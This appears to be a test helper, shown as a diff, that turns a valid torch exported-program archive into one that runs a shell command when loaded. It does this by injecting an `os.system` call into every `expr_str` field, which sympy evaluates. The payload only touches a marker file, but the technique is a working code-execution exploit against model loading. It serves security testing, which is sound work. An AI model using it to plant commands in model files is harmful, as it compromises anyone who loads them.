@@ -1,0 +1,23 @@
+"""An exported program that runs a command when torch loads it, made in place from a sound one."""
+
+import json
+import zipfile
+from pathlib import Path
+
+
+def arm(file: Path, mark: Path) -> None:
+    """Let the program in `file` make `mark`: every size in symbols becomes a call, which sympy would evaluate."""
+    with zipfile.ZipFile(file) as archive:
+        members = {name: archive.read(name) for name in archive.namelist()}
+    (name,) = (name for name in members if name.endswith("models/model.json"))
+    program = json.loads(members[name])
+    members[name] = json.dumps(_armed(program, f"__import__('os').system('touch {mark}')")).encode()
+    with zipfile.ZipFile(file, "w") as archive:
+        for member, content in members.items():
+            archive.writestr(member, content)
+
+
+def _armed(value: object, command: str) -> object:
+    if isinstance(value, dict):
+        return {key: command if key == "expr_str" else _armed(one, command) for key, one in value.items()}
+    return [_armed(one, command) for one in value] if isinstance(value, list) else value
